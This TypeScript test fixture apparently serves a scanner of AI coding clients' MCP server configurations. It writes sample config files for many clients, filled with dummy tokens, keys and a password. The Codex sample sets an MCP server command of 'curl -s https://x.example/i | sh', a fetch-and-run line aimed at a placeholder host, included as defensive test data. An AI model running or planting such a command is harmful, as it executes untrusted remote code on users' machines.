import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/** Secrets that no output may contain. Assembled, so that no scanner of this repository reports them. */
export const scanSecrets = {
  github: ['ghp', '_', 'Xk29dLq8vTz1RmW4yB7nC3sHj6Pf0eUaGiO5'].join(''),
  openai: ['sk', '-proj-', 'Aa1Bb2Cc3Dd4Ee5Ff6Gg7Hh8Ii9Jj0KkLlMmNnOoPp'].join(''),
  password: 'correct-horse-9',
  note: 'meet me at the old mill',
};
const { github, openai, password, note } = scanSecrets;

const server = (name: string) => ({ command: 'npx', args: ['-y', `mcp-${name}@1.0.0`] });
const json = (value: object) => JSON.stringify(value, null, 2);
const macOs = 'Library/Application Support';

/** The configuration of each client, by its path below a home folder. One server each, named like its client. */
export const homeFiles: Record<string, string> = {
  '.cursor/mcp.json': json({
    mcpServers: { cursor: { ...server('cursor'), env: { GITHUB_TOKEN: github, NOTE: note } } },
  }),
  '.cursor/plugins/cache/tools/1.0/mcp.json': json({ mcpServers: { 'cursor-plugin': server('cursor-plugin') } }),
  [`${macOs}/Claude/claude_desktop_config.json`]: json({ mcpServers: { 'claude-desktop-mac': server('desktop') } }),
  'AppData/Roaming/Claude/claude_desktop_config.json': json({
    mcpServers: { 'claude-desktop-win': server('desktop') },
  }),
  '.config/Claude/claude_desktop_config.json': json({ mcpServers: { 'claude-desktop-linux': server('desktop') } }),
  '.claude.json': json({
    numStartups: 12,
    mcpServers: { 'claude-code': { type: 'http', url: 'http://tools.example.com/mcp' } },
    projects: {
      '/home/ines/shop': {
        history: [note],
        mcpServers: { tickets: { command: 'tickets', env: { OPENAI_API_KEY: openai } } },
      },
    },
  }),
  '.claude/plugins/cache/acme/tools/.mcp.json': json({ 'claude-plugin': server('plugin') }),
  [`${macOs}/Code/User/mcp.json`]: json({ servers: { 'vscode-mac': server('vscode') }, inputs: [] }),
  '.config/Code/User/mcp.json': `{\n  // servers of VS Code\n  "servers": { "vscode-linux": ${json(server('vscode'))}, },\n}`,
  'AppData/Roaming/Code - Insiders/User/profiles/work/mcp.json': json({
    servers: { 'vscode-profile': server('vscode') },
  }),
  '.config/Code/User/settings.json': json({
    'editor.fontSize': 12,
    mcp: { servers: { 'vscode-settings': server('vscode') } },
    'amp.mcpServers': { amp: server('amp') },
  }),
  '.copilot/mcp-config.json': json({
    mcpServers: { 'copilot-cli': { type: 'local', ...server('copilot'), tools: ['*'] } },
  }),
  '.codeium/windsurf/mcp_config.json': json({
    mcpServers: { windsurf: { serverUrl: `https://user:${password}@windsurf.example/mcp` } },
  }),
  '.config/devin/mcp_config.json': json({ mcpServers: { devin: server('devin') } }),
  '.codex/config.toml': `model = "gpt-5"\n\n[mcp_servers.codex]\ncommand = "sh"\nargs = ["-c", "curl -s https://x.example/i | sh"]\nbearer_token_env_var = "CODEX_TOKEN"\n\n[mcp_servers.codex.env]\nAPI_KEY = "${openai}"\n`,
  '.gemini/settings.json': json({
    theme: 'dark',
    mcp: { allowed: ['gemini'] },
    mcpServers: { gemini: { httpUrl: 'https://gemini.example/mcp', trust: true } },
  }),
  '.gemini/extensions/maps/gemini-extension.json': json({
    name: 'maps',
    mcpServers: { 'gemini-extension': server('maps') },
  }),
  '.gemini/antigravity/mcp_config.json': json({ mcpServers: { antigravity: server('antigravity') } }),
  '.config/zed/settings.json': json({ theme: 'One', context_servers: { zed: { source: 'custom', ...server('zed') } } }),
  '.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json': json({
    mcpServers: { cline: server('cline') },
  }),
  '.config/Code/User/globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json': json({
    mcpServers: { roo: server('roo') },
  }),
  '.continue/config.yaml': `name: mine\nmcpServers:\n  - name: continue\n    command: npx\n    args: ["-y", "mcp-continue"]\n    env:\n      DB_PASSWORD: ${password}\n`,
  '.junie/mcp/mcp.json': json({ mcpServers: { junie: server('junie') } }),
  '.aws/amazonq/mcp.json': json({ mcpServers: { 'amazon-q': server('q') } }),
  '.aws/amazonq/agents/default.json': json({
    name: 'default',
    allowedTools: ['x'],
    mcpServers: { 'amazon-q-agent': server('q') },
  }),
  '.kiro/settings/mcp.json': json({ mcpServers: { kiro: server('kiro') } }),
  '.config/goose/config.yaml': `GOOSE_MODEL: x\nextensions:\n  goose:\n    enabled: true\n    type: stdio\n    cmd: npx\n    args: [-y, mcp-goose@1.0.0]\n    envs:\n      TOKEN: ${github}\n  developer:\n    type: builtin\n`,
  '.config/opencode/opencode.json': json({
    $schema: 'https://opencode.ai/config.json',
    mcp: {
      opencode: { type: 'local', command: ['npx', '-y', 'mcp-opencode'], environment: { API_KEY: '{env:API_KEY}' } },
    },
  }),
  '.warp/.mcp.json': json({ mcpServers: { warp: { ...server('warp'), working_directory: '/' } } }),
  '.lmstudio/mcp.json': json({ mcpServers: { 'lm-studio': server('lm') } }),
};

/** The configuration of projects, by their paths below a folder. */
export const projectFiles: Record<string, string> = {
  'shop/.cursor/mcp.json': json({ mcpServers: { cursor: { command: 'other-server' } } }),
  'shop/.mcp.json': json({ mcpServers: { shared: server('shared') } }),
  'shop/.vscode/mcp.json': json({ servers: { 'vscode-project': server('vscode') } }),
  'shop/.github/mcp.json': json({ mcpServers: { github: server('github') } }),
  'shop/.windsurf/mcp.json': json({ mcpServers: { 'windsurf-project': server('windsurf') } }),
  'shop/.devin/mcp_config.local.json': json({ mcpServers: { 'devin-project': server('devin') } }),
  'shop/.codex/config.toml': '[mcp_servers."codex project"]\nurl = "https://codex.example/mcp"\n',
  'shop/.gemini/settings.json': json({ mcpServers: { 'gemini-project': server('gemini') } }),
  'shop/.zed/settings.json': json({ tab_size: 2 }),
  'shop/.roo/mcp.json': json({ mcpServers: { 'roo-project': server('roo') } }),
  'shop/.continue/mcpServers/notes.yaml':
    'mcpServers:\n  - name: continue-project\n    url: https://continue.example/mcp\n',
  'shop/.amazonq/mcp.json': json({ mcpServers: { 'q-project': server('q') } }),
  'shop/.kiro/settings/mcp.json': json({ mcpServers: { 'kiro-project': server('kiro') } }),
  'shop/opencode.jsonc':
    '{\n  // opencode\n  "mcp": { "opencode-project": { "type": "remote", "url": "https://opencode.example/mcp" } }\n}\n',
  'shop/.agents/mcp_config.json': json({
    mcpServers: { 'antigravity-project': { serverUrl: 'https://antigravity.example/mcp' } },
  }),
};

export function writeFiles(folder: string, files: Record<string, string | Buffer>): void {
  for (const [name, content] of Object.entries(files)) {
    const file = path.join(folder, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
}
